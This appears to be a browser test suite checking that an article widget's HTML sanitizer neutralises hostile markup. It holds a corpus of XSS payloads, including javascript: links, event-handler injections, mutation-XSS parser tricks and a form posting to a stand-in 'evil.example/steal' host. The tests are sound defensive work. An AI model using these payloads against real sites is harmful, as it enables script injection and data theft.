import { expect, fixture, html } from '@open-wc/testing';
import '../../index.js';
import type { MhnArticle } from './mhn-article.js';
import { sharedClient } from '../../core/content-client.js';
import { forceSanitizerFallbackForTesting, sanitizeHtml } from '../../core/sanitize.js';
import { $, $$, waitFor } from '../../../test/helpers/dom.js';
import { addArticle, apiUrl } from '../../../test/helpers/server.js';

declare global {
  interface Window {
    __xss?: unknown;
  }
}

/** Each vector would set window.__xss (or worse) if it ever ran. */
const VECTORS: string[] = [
  '<script>window.__xss = 1</script>',
  '<img src="x" onerror="window.__xss = 2">',
  '<svg onload="window.__xss = 3"><circle r="4"></circle></svg>',
  '<a href="javascript:window.__xss = 4">plain js link</a>',
  '<a href="JaVaScRiPt&colon;window.__xss = 5">mixed case entity link</a>',
  '<a href="&#x20;&#14;javascript:window.__xss = 6">control char link</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:window.__xss = 7">encoded link</a>',
  '<iframe src="javascript:window.parent.__xss = 8"></iframe>',
  '<iframe srcdoc="<script>parent.__xss = 9</script>"></iframe>',
  '<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>',
  '<style>:host, body { display: none }</style>',
  '<p style="position:fixed;inset:0;z-index:2147483647;background:red">overlay</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 13">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=14>">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=15>">',
  '<object data="javascript:window.__xss = 16"></object>',
  '<embed src="javascript:window.__xss = 17">',
  '<details open ontoggle="window.__xss = 18"><summary>x</summary></details>',
  '<video><source onerror="window.__xss = 19"></video>',
  '<a href="data:text/html,&lt;script&gt;alert(20)&lt;/script&gt;">data link</a>',
  '<img src="http://insecure.example/tracker.png" alt="plain http image">',
  '<img src="x" srcset="javascript:window.__xss = 22">',
  '<base href="javascript:/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss = 24">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<div onmouseover="window.__xss = 26" class="x" id="clobber">hover</div>',
  '<template><script>window.__xss = 27</script></template>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=window.__xss=28 src=1>">',
  '<input autofocus onfocus="window.__xss = 29">',
  '<button formaction="javascript:window.__xss = 30">submit</button>',
  '<a href="https://example.org/ok" target="_top" onclick="window.__xss = 31">fine link</a>',
  '<img src="https://example.org/fine.png" onload="window.__xss = 32" alt="fine image">',
];

const HOSTILE_TITLE = '<img src=x onerror="window.__xss = 100">Hostile title';
const HOSTILE_AUTHOR = '<script>window.__xss = 101</script>';

const FORBIDDEN =
  'script, style, iframe, object, embed, form, input, button, textarea, select, svg, math, base, meta, link, template, noscript, video, source, details';

/** Both cleaners run the whole corpus: the browser's Sanitizer API and the DOMPurify fallback. */
const PATHS = [
  { name: "the browser's HTML Sanitizer API", slug: 'native', fallback: false },
  { name: 'the DOMPurify fallback', slug: 'dompurify', fallback: true },
];

it('runs in a browser with the HTML Sanitizer API (so the first path is really tested)', () => {
  expect(typeof (Element.prototype as { setHTML?: unknown }).setHTML).to.equal('function');
});

for (const path of PATHS) {
  describe(`with ${path.name}`, () => {
    before(() => forceSanitizerFallbackForTesting(path.fallback));
    after(() => forceSanitizerFallbackForTesting(false));

    describe('sanitizeHtml, one vector at a time', () => {
      // Each vector alone, so an unclosed tag in one cannot hide the next from the test.
      const host = document.createElement('div');
      before(() => {
        delete window.__xss;
        document.body.append(host);
      });
      after(() => host.remove());

      VECTORS.forEach((vector, i) => {
        it(`neutralises vector ${i + 1}: ${vector.slice(0, 60)}`, async () => {
          host.replaceChildren(sanitizeHtml(vector, 'https://publisher.example.org/a/'));
          await new Promise((r) => setTimeout(r, 30));
          expect(window.__xss).to.equal(undefined);
          expect([...host.querySelectorAll(FORBIDDEN)].map((n) => n.localName)).to.deep.equal([]);
          for (const node of host.querySelectorAll('*')) {
            for (const attr of node.attributes) {
              expect(attr.name).to.not.match(/^on|^(style|class|id|srcset|target|formaction)$/);
            }
          }
          for (const a of host.querySelectorAll('a[href]')) {
            expect(['http:', 'https:', 'mailto:']).to.include(
              new URL((a as HTMLAnchorElement).href).protocol,
            );
          }
          for (const img of host.querySelectorAll('img')) {
            expect(new URL(img.src).protocol).to.equal('https:');
          }
        });
      });

      it('keeps safe content: an https image and an http(s) link, with rel="noopener noreferrer"', () => {
        host.replaceChildren(
          sanitizeHtml(
            '<p><a href="https://example.org/ok" target="_top">fine link</a><img src="https://example.org/fine.png" alt="fine"></p><ul><li>one</li></ul>',
          ),
        );
        const a = host.querySelector('a')!;
        expect(a.href).to.equal('https://example.org/ok');
        expect(a.rel).to.equal('noopener noreferrer');
        expect(a.hasAttribute('target')).to.equal(false);
        expect(host.querySelector('img')!.getAttribute('src')).to.equal(
          'https://example.org/fine.png',
        );
        expect(host.querySelectorAll('li')).to.have.length(1);
      });
    });

    describe('<mhn-article> with hostile content', () => {
      let endpoint: string;
      let el: MhnArticle;

      before(async () => {
        endpoint = await apiUrl();
        sharedClient.invalidate();
        delete window.__xss;
        await addArticle({
          slug: `hostile-article-${path.slug}`,
          title: HOSTILE_TITLE,
          url: 'javascript:window.__xss = 102',
          language: 'en',
          topic: { slug: 't', title: '<b>topic</b>', url: 'javascript:window.__xss = 103' },
          authors: [{ name: HOSTILE_AUTHOR, credentials: '<i>PhD</i>' }],
          updated: 'not a date',
          reviewed: '2024-13-45',
          bodyHtml:
            VECTORS.map((v) => `<p>${v}</p>`).join('\n') +
            '<p><a href="/relative/page">relative</a></p>',
          comments: { enabled: true, count: 0 },
        });
        // Not a fixture(): it must stay in the page for every test of this block.
        el = document.createElement('mhn-article');
        el.endpoint = endpoint;
        el.article = `hostile-article-${path.slug}`;
        document.body.append(el);
        await waitFor(el, '[part="body"]');
        // Give event-handler vectors (onerror, onload, ontoggle, autofocus) time to fire.
        await new Promise((r) => setTimeout(r, 500));
      });

      after(() => el.remove());

      it(`runs none of the ${VECTORS.length} body vectors, nor the title/author/url ones`, () => {
        expect(window.__xss).to.equal(undefined);
      });

      it('leaves no dangerous element in the body', () => {
        expect($$(el, `[part="body"] :is(${FORBIDDEN})`).map((n) => n.localName)).to.deep.equal([]);
      });

      it('leaves no event handler, style, class or id attribute', () => {
        const offenders = $$(el, '[part="body"] *').flatMap((node) =>
          [...node.attributes]
            .filter(
              (a) =>
                /^on/i.test(a.name) ||
                ['style', 'class', 'id', 'srcset', 'target', 'formaction'].includes(a.name),
            )
            .map((a) => `${node.localName}[${a.name}]`),
        );
        expect(offenders).to.deep.equal([]);
      });

      it('keeps only http(s)/mailto links and https images', () => {
        for (const a of $$(el, '[part="body"] a[href]') as HTMLAnchorElement[]) {
          expect(['http:', 'https:', 'mailto:']).to.include(new URL(a.href).protocol);
          expect(a.rel).to.equal('noopener noreferrer');
        }
        for (const img of $$(el, '[part="body"] img') as HTMLImageElement[]) {
          expect(new URL(img.src).protocol).to.equal('https:');
        }
      });

      it('drops unsafe links but keeps their words', () => {
        const body = $(el, '[part="body"]')!;
        expect(body.textContent).to.contain('plain js link');
        const jsLink = $$(el, '[part="body"] a').find((a) => a.textContent === 'plain js link')!;
        expect(jsLink.hasAttribute('href')).to.equal(false);
      });

      it('shows the title, author and topic as literal text', () => {
        expect($(el, '[part="heading"]')!.textContent).to.equal(HOSTILE_TITLE);
        expect($(el, '[part="byline"]')!.textContent).to.contain(HOSTILE_AUTHOR);
        expect($(el, '[part="byline"] script')).to.equal(null);
        expect($(el, '[part="kicker"]')!.textContent!.trim()).to.equal('<b>topic</b>');
        expect($(el, '[part="kicker"] a')).to.equal(null);
      });

      it('makes no link of a javascript: canonical url and shows no invalid dates', () => {
        expect($(el, '[part="source-link"]')).to.equal(null);
        expect($(el, '[part="dates"]')!.textContent).to.not.match(/Invalid|NaN/);
        expect($$(el, 'time')).to.have.length(0);
      });

      it('cannot cover the partner page: nothing in the body is positioned outside the widget', () => {
        const box = el.getBoundingClientRect();
        for (const node of $$(el, '[part="body"] *')) {
          expect(getComputedStyle(node).position).to.equal('static');
        }
        expect(getComputedStyle(el).contain).to.contain('paint');
        expect(box.width).to.be.lessThan(window.innerWidth + 1);
      });

      it('resolves relative links and images against the canonical article URL', async () => {
        await addArticle({
          slug: `relative-links-${path.slug}`,
          title: 'Relative links',
          url: 'https://publisher.example.org/articles/guide/',
          authors: [],
          bodyHtml: '<p><a href="../other/">sibling</a> <img src="/img/a.png" alt="pic"></p>',
        });
        const rel = await fixture<MhnArticle>(
          html`<mhn-article
            endpoint=${endpoint}
            article=${`relative-links-${path.slug}`}
          ></mhn-article>`,
        );
        await waitFor(rel, '[part="body"] a');
        expect(($(rel, '[part="body"] a') as HTMLAnchorElement).href).to.equal(
          'https://publisher.example.org/articles/other/',
        );
        expect(($(rel, '[part="body"] img') as HTMLImageElement).src).to.equal(
          'https://publisher.example.org/img/a.png',
        );
      });
    });
  });
}

describe('both cleaners', () => {
  after(() => forceSanitizerFallbackForTesting(false));

  it('give the same markup for every vector', async () => {
    const out = (fragment: DocumentFragment) => {
      const div = document.createElement('div');
      div.append(fragment);
      return div.innerHTML;
    };
    // Except <noscript>: DOMPurify's parser runs with scripting off (its content is markup,
    // of which an empty <p> survives), setHTML's with scripting on (its content is text,
    // dropped with it). Both drop the element; each path passes the corpus above.
    const vectors = VECTORS.filter((v) => !v.startsWith('<noscript>'));
    for (const vector of [...vectors, '<p>a<unknown-tag>kept <b>words</b></unknown-tag></p>']) {
      await forceSanitizerFallbackForTesting(false);
      const native = out(sanitizeHtml(vector, 'https://publisher.example.org/a/'));
      await forceSanitizerFallbackForTesting(true);
      const purified = out(sanitizeHtml(vector, 'https://publisher.example.org/a/'));
      expect(native, vector).to.equal(purified);
    }
  });
});
